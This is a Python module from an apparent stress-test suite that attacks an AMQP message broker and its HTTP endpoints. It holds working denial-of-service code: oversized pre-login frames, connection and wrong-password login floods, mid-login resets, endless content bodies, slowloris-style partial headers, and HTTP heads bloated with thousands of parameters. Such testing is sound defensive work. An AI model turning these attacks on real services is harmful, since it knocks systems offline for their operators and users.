"""Attacks on the way in: before login, and with frames that never come to an end."""

from __future__ import annotations

import concurrent.futures
import contextlib
import socket
import struct
import time

from bench.attacks.attack import Ground, Steps, attack
from bench.attacks.peer import content_header, publish_method
from bench.attacks.target import ATTACKER_ADDRESS

from leporid.load.amqp import (
    CONNECTION_START_OK,
    FRAME_HEAD,
    FRAME_HEADER,
    PROTOCOL_HEADER,
    Client,
    connect,
    method,
    short,
)

# As many as fit into a frame before it is known who is there.
VOIDS = 7_900
LOGINS = 600
ADDRESSES = 100
RECEIVE_BYTES = 65536
ABORTED = 20_000
# Of a body that never comes to its end.
BODY_BYTES = 16_000_000
CHANNELS = 60
SLOW_CONNECTIONS = 200
SLOW_BYTES = 100_000
SLOW_STEP_BYTES = 1_000
SLOW_STEP_SECONDS = 0.05
# So that the last of them is looked at while its peer is still there.
VOIDS_SECONDS = 1.0


def start_ok(client_properties: bytes, mechanism: str, response: bytes) -> bytes:
    """connection.start-ok with whatever somebody says who has not logged in."""
    return method(
        0,
        CONNECTION_START_OK,
        struct.pack(">I", len(client_properties))
        + client_properties
        + short(mechanism)
        + struct.pack(">I", len(response))
        + response
        + short("en_US"),
    )


def send_from_many(ground: Ground, stack: contextlib.ExitStack, count: int, data: bytes) -> None:
    """Open connections, one after another, and send each the same."""
    for _ in range(count):
        try:
            sock = connect(ground.target.amqp, ATTACKER_ADDRESS)
            stack.callback(sock.close)
            sock.sendall(data)
        except OSError as error:
            ground.note(f"the broker refused a connection ({error.strerror or error})")


@attack("start-ok-voids")
def start_ok_voids(ground: Ground) -> Steps:
    """1,000 connections that have not logged in send client properties of 7,900 voids each."""
    voids = b"V" * VOIDS
    properties = short("a") + b"A" + struct.pack(">I", len(voids)) + voids
    data = PROTOCOL_HEADER + start_ok(properties, "NONE", b"")
    with contextlib.ExitStack() as stack:
        yield
        send_from_many(ground, stack, ground.count(1_000), data)
        time.sleep(VOIDS_SECONDS)


@attack("many-addresses")
def many_addresses(ground: Ground) -> Steps:
    """Peers with 100 addresses log in without end, with client properties of 7,900 voids."""
    voids = b"V" * VOIDS
    properties = short("a") + b"A" + struct.pack(">I", len(voids)) + voids
    data = PROTOCOL_HEADER + start_ok(properties, "NONE", b"")
    addresses = [f"127.0.1.{at}" for at in range(1, ground.count(ADDRESSES) + 1)]
    yield
    end = time.monotonic() + ground.plan.seconds
    with concurrent.futures.ThreadPoolExecutor(len(addresses)) as threads:
        for address in addresses:
            threads.submit(send_again_and_again, ground, address, data, end)


def send_again_and_again(ground: Ground, source: str, data: bytes, end: float) -> None:
    """Send it from that address on one connection after the other until then (monotonic)."""
    while time.monotonic() < end:
        try:
            with connect(ground.target.amqp, source) as sock:
                sock.sendall(data)
                while sock.recv(RECEIVE_BYTES):
                    pass
        except OSError as error:
            ground.note(f"the broker refused a connection ({error.strerror or error})")


def log_in(ground: Ground) -> None:
    """Somebody else, whose password is known by its hash, logs in."""
    with Client(ground.target.url("hashed")):
        pass


@attack("wrong-logins", probe=log_in)
def wrong_logins(ground: Ground) -> Steps:
    """600 logins at once with a wrong password for a hash that takes long; others log in, too."""
    ground.need_users()
    data = PROTOCOL_HEADER + start_ok(b"", "PLAIN", b"\0hashed\0wrong")
    with contextlib.ExitStack() as stack:
        yield
        send_from_many(ground, stack, ground.count(LOGINS), data)
        ground.hold()


@attack("aborted-logins")
def aborted_logins(ground: Ground) -> Steps:
    """20,000 connections, one after another, are reset in the middle of their logins."""
    data = PROTOCOL_HEADER + start_ok(b"", "PLAIN", b"\0hostile\0hostile")
    reset = struct.pack("ii", 1, 0)
    until = time.monotonic() + ground.plan.patience_seconds / 2
    yield
    for at in range(ground.count(ABORTED)):
        if time.monotonic() > until:
            ground.note(f"{at:,} connections only, for want of time")
            break
        try:
            with connect(ground.target.amqp, ATTACKER_ADDRESS) as sock:
                sock.sendall(data[: 1 + at % len(data)])
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
        except OSError as error:
            ground.note(f"the broker refused a connection ({error.strerror or error})")


@attack("unfinished-content")
def unfinished_content(ground: Ground) -> Steps:
    """A user without any permission sends 16 MB of a body on each of 60 channels, and goes."""
    ground.need_users()
    with ground.peer("nobody", channels=CHANNELS) as peer:
        yield
        size = ground.count(BODY_BYTES)
        for channel in range(1, CHANNELS + 1):
            peer.push(publish_method("amq.direct", "", channel))
            peer.push(content_header(size + 1, channel=channel))
        part = bytes(100_000)
        for at in range(0, size, len(part)):
            piece = part[: size - at]
            frames = [
                FRAME_HEAD.pack(3, channel, len(piece)) + piece + b"\xce"
                for channel in range(1, CHANNELS + 1)
            ]
            if not peer.push(b"".join(frames)):
                break
        ground.hold()


@attack("slow-headers")
def slow_headers(ground: Ground) -> Steps:
    """200 connections send a content header of 100 KB, 1 KB at a time."""
    with contextlib.ExitStack() as stack:
        peers = [stack.enter_context(ground.peer()) for _ in range(ground.count(SLOW_CONNECTIONS))]
        yield
        head = publish_method("", "q") + FRAME_HEAD.pack(FRAME_HEADER, 1, SLOW_BYTES)
        # A table in the making: what is there so far has no end yet.
        content = struct.pack(">HHQHI", 60, 0, 1, 0x2000, SLOW_BYTES - 18)
        for peer in peers:
            peer.push(head + content)
        sent = len(content)
        until = time.monotonic() + ground.plan.seconds
        while time.monotonic() < until and sent + SLOW_STEP_BYTES < SLOW_BYTES:
            for peer in peers:
                peer.push(b"\x01aV" * (SLOW_STEP_BYTES // 3))
            sent += SLOW_STEP_BYTES
            time.sleep(SLOW_STEP_SECONDS)


@attack("half-sent-requests")
def half_sent_requests(ground: Ground) -> Steps:
    """256 HTTP requests are sent by half, and held."""
    address = ground.http()
    with contextlib.ExitStack() as stack:
        yield
        for _ in range(ground.count(256)):
            try:
                sock: socket.socket = connect(address, ATTACKER_ADDRESS)
                stack.callback(sock.close)
                sock.sendall(b"GET /health HTTP/1.1\r\nHost:")
            except OSError as error:
                ground.note(f"the broker refused a connection ({error.strerror or error})")
        ground.hold()


# What stands in the head of each request, in turn; a head may have 40 KB.
ODD_HEADS = (
    b"GET /metrics?" + b"%ff&" * 3_900 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n" + b"a:\r\n" * 3_900 + b"\r\n",
    b'GET /api/session HTTP/1.1\r\nHost: localhost\r\nCookie: a="' + b'\\"' * 7_800 + b'"\r\n\r\n',
)
ODD_REQUESTS = 3_000
ODD_AT_ONCE = 30


@attack("odd-heads")
def odd_heads(ground: Ground) -> Steps:
    """3,000 requests without a login have heads of 4,000 parameters, headers, or escapes."""
    address = ground.http()
    until = time.monotonic() + ground.plan.patience_seconds / 2
    yield
    for at in range(0, ground.count(ODD_REQUESTS), ODD_AT_ONCE):
        if time.monotonic() > until:
            ground.note(f"{at:,} requests only, for want of time")
            break
        with contextlib.ExitStack() as stack:
            for number in range(ODD_AT_ONCE):
                try:
                    sock: socket.socket = connect(address, ATTACKER_ADDRESS)
                    stack.callback(sock.close)
                    sock.sendall(ODD_HEADS[number % len(ODD_HEADS)])
                except OSError as error:
                    ground.note(f"the broker refused a connection ({error.strerror or error})")
